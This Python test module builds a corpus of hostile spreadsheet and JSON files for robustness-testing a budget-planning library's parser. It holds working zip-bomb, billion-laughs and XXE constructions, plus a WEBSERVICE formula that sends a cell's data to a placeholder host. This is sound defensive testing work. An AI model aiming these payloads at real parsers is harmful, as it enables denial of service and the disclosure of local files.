"""A corpus of hostile and degenerate plan files, generated from the Hải Phòng example.

Each case is a function ``(folder) -> Path`` that writes one file; :data:`XLSX_CASES` and
:data:`JSON_CASES` name them. Used by ``tests/test_hostile_inputs.py`` (each case is run through
the CLI in a subprocess with memory and CPU limits) and handy by hand:
``python -m tests.hostile_corpus OUT_DIR``.
"""

from __future__ import annotations

import io
import json
import random
import struct
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
HAIPHONG = ROOT / "examples" / "haiphong_2011_2015" / "plan.json"
SECRET = "budgetlib-xxe-secret-6f1c2b"
"""Written into the file an XXE case points at; it must never appear in any output."""

Parts = dict[str, bytes]


def base_workbook(folder: Path) -> Path:
    """The Hải Phòng plan as a template workbook (written once per folder)."""
    path = folder / "_base.xlsx"
    if not path.exists():
        from budgetlib.io import load_plan
        from budgetlib.io.workbook import write_plan_workbook

        write_plan_workbook(load_plan(HAIPHONG), path)
    return path


def _parts(folder: Path) -> Parts:
    with zipfile.ZipFile(base_workbook(folder)) as z:
        return {i.filename: z.read(i.filename) for i in z.infolist()}


def _sheet_part(folder: Path, sheet: str) -> str:
    from budgetlib.io.workbook.safety import inspect_workbook

    return inspect_workbook(base_workbook(folder)).sheets[sheet]


def _zip(parts: Parts, out: Path | io.BytesIO, *, level: int = 6) -> None:
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as z:
        for name, data in parts.items():
            z.writestr(name, data)


def _write(folder: Path, name: str, parts: Parts) -> Path:
    path = folder / name
    _zip(parts, path)
    return path


def _append_row(xml: bytes, row: str) -> bytes:
    return xml.replace(b"</sheetData>", row.encode() + b"</sheetData>", 1)


def _set_cell(xml: bytes, ref: str, inner: str, attrs: str = ' t="inlineStr"') -> bytes:
    """Replace cell ``ref`` of a sheet's XML (it must exist) with ``<c r=ref attrs>inner</c>``."""
    text = xml.decode("utf-8")
    start = text.index(f'<c r="{ref}"')
    end = text.index(">", start)
    if text[end - 1] != "/":
        end = text.index("</c>", start) + len("</c>") - 1
    return (text[:start] + f'<c r="{ref}"{attrs}>{inner}</c>' + text[end + 1 :]).encode("utf-8")


# ---------------------------------------------------------------------------------------------
# Workbook cases


def zip_bomb(folder: Path) -> Path:
    """A part of 150 MB of blanks that compresses about 1 000 times."""
    parts = _parts(folder)
    parts["customXml/item1.xml"] = b"<a>" + b" " * (150 * 1024 * 1024) + b"</a>"
    return _write(folder, "zip_bomb.xlsx", parts)


def zip_bomb_lying_sizes(folder: Path) -> Path:
    """A 100 MB part whose zip headers claim it is 1 000 bytes (Python's zipfile stops there)."""
    parts = _parts(folder)
    big = b"<a>" + b"<b/>" * (25 * 1024 * 1024) + b"</a>"
    buf = io.BytesIO()
    _zip({**parts, "customXml/item1.xml": big}, buf)
    raw = bytearray(buf.getvalue())
    true_size = struct.pack("<I", len(big))
    fake = struct.pack("<I", 1000)
    # The uncompressed size sits at offset 22 of a local header and 24 of a central record.
    for sig, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = raw.find(sig)
        while at >= 0:
            if raw[at + offset : at + offset + 4] == true_size:
                raw[at + offset : at + offset + 4] = fake
            at = raw.find(sig, at + 4)
    path = folder / "zip_bomb_lying.xlsx"
    path.write_bytes(bytes(raw))
    return path


_LOL = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)]


def _with_doctype(folder: Path, doctype: str, entity: str) -> Parts:
    """The Địa bàn sheet with ``doctype`` after its XML declaration and ``&entity;`` in a name."""
    parts = _parts(folder)
    part = _sheet_part(folder, "Địa bàn")
    xml = _set_cell(parts[part], "B4", f"<is><t>&{entity};</t></is>").decode("utf-8")
    head, decl, rest = xml.partition("?>") if xml.startswith("<?") else ("", "", xml)
    parts[part] = (head + decl + doctype + rest).encode("utf-8")
    return parts


def billion_laughs(folder: Path) -> Path:
    return _write(folder, "billion_laughs.xlsx", _with_doctype(folder, "<!DOCTYPE worksheet [" + "".join(_LOL) + "]>", "lol9"))


def billion_laughs_late(folder: Path) -> Path:
    """The DTD after 8 KB of comment, past the prolog check: defusedxml must refuse it."""
    doctype = "<!--" + "x" * 8192 + "--><!DOCTYPE worksheet [" + "".join(_LOL) + "]>"
    return _write(folder, "billion_laughs_late.xlsx", _with_doctype(folder, doctype, "lol9"))


def xxe(folder: Path) -> Path:
    secret = folder / "secret.txt"
    secret.write_text(SECRET, encoding="utf-8")
    doctype = f'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file://{secret}">]>'
    return _write(folder, "xxe.xlsx", _with_doctype(folder, doctype, "xxe"))


def far_cell(folder: Path) -> Path:
    """One value at XFD1048576 of the Địa bàn sheet (57 KB of file, 17 billion cells of grid)."""
    parts = _parts(folder)
    part = _sheet_part(folder, "Địa bàn")
    parts[part] = _append_row(parts[part], '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>')
    return _write(folder, "far_cell.xlsx", parts)


def wide_rows(folder: Path) -> Path:
    """A value in column 600 on every row of Dự toán (beyond the 500 columns an input sheet may use)."""
    parts = _parts(folder)
    part = _sheet_part(folder, "Dự toán")
    parts[part] = _append_row(parts[part], '<row r="200"><c r="WB200"><v>1</v></c></row>')
    return _write(folder, "wide_rows.xlsx", parts)


def garbage_sheet_xml(folder: Path) -> Path:
    parts = _parts(folder)
    part = _sheet_part(folder, "Địa bàn")
    parts[part] = parts[part][: len(parts[part]) // 2] + b"<<<&&& not xml"
    return _write(folder, "garbage_sheet.xlsx", parts)


def garbage_styles_xml(folder: Path) -> Path:
    parts = _parts(folder)
    parts["xl/styles.xml"] = b"<?xml version='1.0'?><styleSheet><numFmts count='1'><numFmt"
    return _write(folder, "garbage_styles.xlsx", parts)


def garbage_zip(folder: Path) -> Path:
    path = folder / "garbage.xlsx"
    path.write_bytes(b"PK\x03\x04" + bytes(random.Random(1).randrange(256) for _ in range(5000)))
    return path


def not_a_workbook(folder: Path) -> Path:
    path = folder / "csv_renamed.xlsx"
    path.write_text("Mã địa bàn,Tên địa bàn\n303,Hồng Bàng\n", encoding="utf-8")
    return path


def encrypted(folder: Path) -> Path:
    """A password-protected workbook: an OLE compound file holding an ``EncryptedPackage`` stream
    (the layout Excel writes; the test builds the container, not the encryption)."""
    sector = 512
    header = bytearray(sector)
    header[0:8] = bytes.fromhex("D0CF11E0A1B11AE1")
    struct.pack_into("<HHHH", header, 24, 0x3E, 3, 0xFFFE, 9)
    struct.pack_into("<I", header, 44, 1)  # one FAT sector
    struct.pack_into("<I", header, 48, 1)  # directory at sector 1
    struct.pack_into("<I", header, 60, 0xFFFFFFFE)
    struct.pack_into("<I", header, 68, 0xFFFFFFFE)
    struct.pack_into("<I", header, 76, 0)  # FAT at sector 0
    fat = bytearray(b"\xff" * sector)
    struct.pack_into("<III", fat, 0, 0xFFFFFFFD, 0xFFFFFFFE, 0xFFFFFFFE)
    directory = bytearray(sector)
    for i, name in enumerate(["Root Entry", "EncryptionInfo", "EncryptedPackage"]):
        entry = bytearray(128)
        encoded = (name + "\0").encode("utf-16-le")
        entry[0 : len(encoded)] = encoded
        struct.pack_into("<H", entry, 64, len(encoded))
        entry[66] = 5 if i == 0 else 2
        directory[i * 128 : (i + 1) * 128] = entry
    path = folder / "encrypted.xlsx"
    path.write_bytes(bytes(header) + bytes(fat) + bytes(directory))
    return path


def legacy_xls(folder: Path) -> Path:
    path = folder / "legacy.xlsx"
    path.write_bytes(bytes.fromhex("D0CF11E0A1B11AE1") + b"\0" * 504 + "Workbook".encode("utf-16-le") + b"\0" * 1000)
    return path


def invalid_utf8_part(folder: Path) -> Path:
    parts = _parts(folder)
    part = _sheet_part(folder, "Địa bàn")
    parts[part] = _set_cell(parts[part], "B4", "<is><t>@@</t></is>").replace(b"@@", b"\xe7\xff")
    return _write(folder, "invalid_utf8.xlsx", parts)


def deep_nesting_xml(folder: Path) -> Path:
    """A name cell nesting 100 000 runs of rich text: read (its text is the name), no recursion."""
    parts = _parts(folder)
    part = _sheet_part(folder, "Địa bàn")
    rnd = random.Random(3)
    deep = "".join(f"<r><t>{rnd.getrandbits(64):016x}</t>" for _ in range(100_000)) + "</r>" * 100_000
    parts[part] = _set_cell(parts[part], "B4", f"<is>{deep}</is>")
    return _write(folder, "deep_nesting.xlsx", parts)


def huge_string(folder: Path) -> Path:
    """A 20 MB random string where a unit kind goes (it must not be echoed)."""
    parts = _parts(folder)
    part = _sheet_part(folder, "Địa bàn")
    text = random.Random(7).randbytes(10 * 1024 * 1024).hex()
    parts[part] = _set_cell(parts[part], "C4", f"<is><t>{text}</t></is>")
    return _write(folder, "huge_string.xlsx", parts)


def nan_inf_huge_numbers(folder: Path) -> Path:
    parts = _parts(folder)
    units = _sheet_part(folder, "Địa bàn")
    parts[units] = _set_cell(parts[units], "E4", "<v>1e400</v>", "")
    parts[units] = _set_cell(parts[units], "E5", "<v>-1E400</v>", "")
    budget = _sheet_part(folder, "Dự toán")
    parts[budget] = _set_cell(parts[budget], "E4", "<v>99999999999999999999999999999</v>", "")
    parts[budget] = _set_cell(parts[budget], "C5", "<v>1e300</v>", "")
    return _write(folder, "nan_inf_huge.xlsx", parts)


def markup(folder: Path) -> Path:
    """Rich-console markup in a name that a message echoes."""
    parts = _parts(folder)
    budget = _sheet_part(folder, "Dự toán")
    parts[budget] = _set_cell(parts[budget], "A4", "<is><t>[/][bold red]XX[dự thảo]</t></is>")
    return _write(folder, "markup.xlsx", parts)


def control_character(folder: Path) -> Path:
    """A BEL in a name: XML 1.0 cannot carry it, so the part is damaged (and named)."""
    parts = _parts(folder)
    agencies = _sheet_part(folder, "Cơ quan")
    parts[agencies] = _set_cell(parts[agencies], "B4", "<is><t>Sở&#7; Tư pháp</t></is>")
    return _write(folder, "control_character.xlsx", parts)


def formula_payload(folder: Path) -> Path:
    """A live formula in a name cell, saved without a result (it must be reported, never run)."""
    parts = _parts(folder)
    agencies = _sheet_part(folder, "Cơ quan")
    parts[agencies] = _set_cell(parts[agencies], "B4", '<f>WEBSERVICE("http://example.invalid/?"&amp;A1)</f>', "")
    return _write(folder, "formula_payload.xlsx", parts)


def xlsm_with_macros(folder: Path) -> Path:
    """An .xlsm with a vbaProject part: read like .xlsx, macros never run (valid: exit 0)."""
    parts = _parts(folder)
    parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + b"\0" * 1020
    return _write(folder, "macros.xlsm", parts)


XLSX_CASES: dict[str, Callable[[Path], Path]] = {
    "zip_bomb": zip_bomb,
    "zip_bomb_lying_sizes": zip_bomb_lying_sizes,
    "billion_laughs": billion_laughs,
    "billion_laughs_late": billion_laughs_late,
    "xxe": xxe,
    "far_cell": far_cell,
    "wide_rows": wide_rows,
    "garbage_sheet_xml": garbage_sheet_xml,
    "garbage_styles_xml": garbage_styles_xml,
    "garbage_zip": garbage_zip,
    "not_a_workbook": not_a_workbook,
    "encrypted": encrypted,
    "legacy_xls": legacy_xls,
    "invalid_utf8_part": invalid_utf8_part,
    "huge_string": huge_string,
    "nan_inf_huge_numbers": nan_inf_huge_numbers,
    "markup": markup,
    "control_character": control_character,
    "formula_payload": formula_payload,
}


# ---------------------------------------------------------------------------------------------
# JSON cases


def _plan() -> dict:
    return json.loads(HAIPHONG.read_text(encoding="utf-8"))


def _dump(folder: Path, name: str, data: dict, **kwargs) -> Path:
    path = folder / name
    path.write_text(json.dumps(data, ensure_ascii=False, **kwargs), encoding="utf-8")
    return path


def json_nan_inf(folder: Path) -> Path:
    data = _plan()
    data["units"][0]["attributes"]["population"] = float("nan")
    data["units"][1]["attributes"]["population"] = float("inf")
    data["tasks"][0]["need"] = {"terms": {"population": float("-inf")}}
    return _dump(folder, "nan_inf.json", data, allow_nan=True)


def json_huge_numbers(folder: Path) -> Path:
    data = _plan()
    data["budget_lines"][0]["amount"] = 10**30
    data["budget_lines"][1]["amount"] = 5 * 10**18
    data["budget_lines"][2]["amount"] = 5 * 10**18
    data["units"][0]["attributes"]["population"] = 10**400
    return _dump(folder, "huge_numbers.json", data)


def json_deep_nesting(folder: Path) -> Path:
    path = folder / "deep.json"
    path.write_text('{"program": ' + "[" * 100_000 + "]" * 100_000 + "}", encoding="utf-8")
    return path


def json_cp1258(folder: Path) -> Path:
    path = folder / "cp1258.json"
    path.write_bytes(json.dumps(_plan(), ensure_ascii=False).encode("cp1258", errors="replace"))
    return path


def json_utf16_no_bom(folder: Path) -> Path:
    path = folder / "utf16.json"
    path.write_bytes(json.dumps(_plan(), ensure_ascii=False).encode("utf-16-le"))
    return path


def json_huge_string(folder: Path) -> Path:
    data = _plan()
    data["units"][0]["kind"] = "x" * (40 * 1024 * 1024)
    return _dump(folder, "huge_string.json", data)


def json_markup_control(folder: Path) -> Path:
    data = _plan()
    data["budget_lines"][0]["task"] = "[/][bold red]XX[dự thảo]"
    data["agencies"][0]["name"] = "Sở\x07 Tư pháp"
    return _dump(folder, "markup_control.json", data)


def json_garbage(folder: Path) -> Path:
    path = folder / "garbage.json"
    path.write_bytes(bytes(random.Random(2).randrange(256) for _ in range(4000)))
    return path


def json_directory(folder: Path) -> Path:
    path = folder / "folder.json"
    path.mkdir(exist_ok=True)
    return path


def json_not_an_object(folder: Path) -> Path:
    path = folder / "list.json"
    path.write_text("[1, 2, 3]", encoding="utf-8")
    return path


def json_wrong_types(folder: Path) -> Path:
    data = _plan()
    data["units"] = {"303": "Hồng Bàng"}
    data["tasks"][0] = "TT"
    data["allocation"]["constraints"] = [{"type": "rocket", "name": "x"}]
    return _dump(folder, "wrong_types.json", data)


JSON_CASES: dict[str, Callable[[Path], Path]] = {
    "json_nan_inf": json_nan_inf,
    "json_huge_numbers": json_huge_numbers,
    "json_deep_nesting": json_deep_nesting,
    "json_cp1258": json_cp1258,
    "json_utf16_no_bom": json_utf16_no_bom,
    "json_huge_string": json_huge_string,
    "json_markup_control": json_markup_control,
    "json_garbage": json_garbage,
    "json_directory": json_directory,
    "json_not_an_object": json_not_an_object,
    "json_wrong_types": json_wrong_types,
}

ACCEPTED_CASES: dict[str, Callable[[Path], Path]] = {"xlsm_with_macros": xlsm_with_macros, "deep_nesting_xml": deep_nesting_xml}
"""Unusual but valid files: read like any other (exit 0)."""


if __name__ == "__main__":
    out = Path(sys.argv[1])
    out.mkdir(parents=True, exist_ok=True)
    for name, make in {**XLSX_CASES, **JSON_CASES, **ACCEPTED_CASES}.items():
        print(name, make(out))
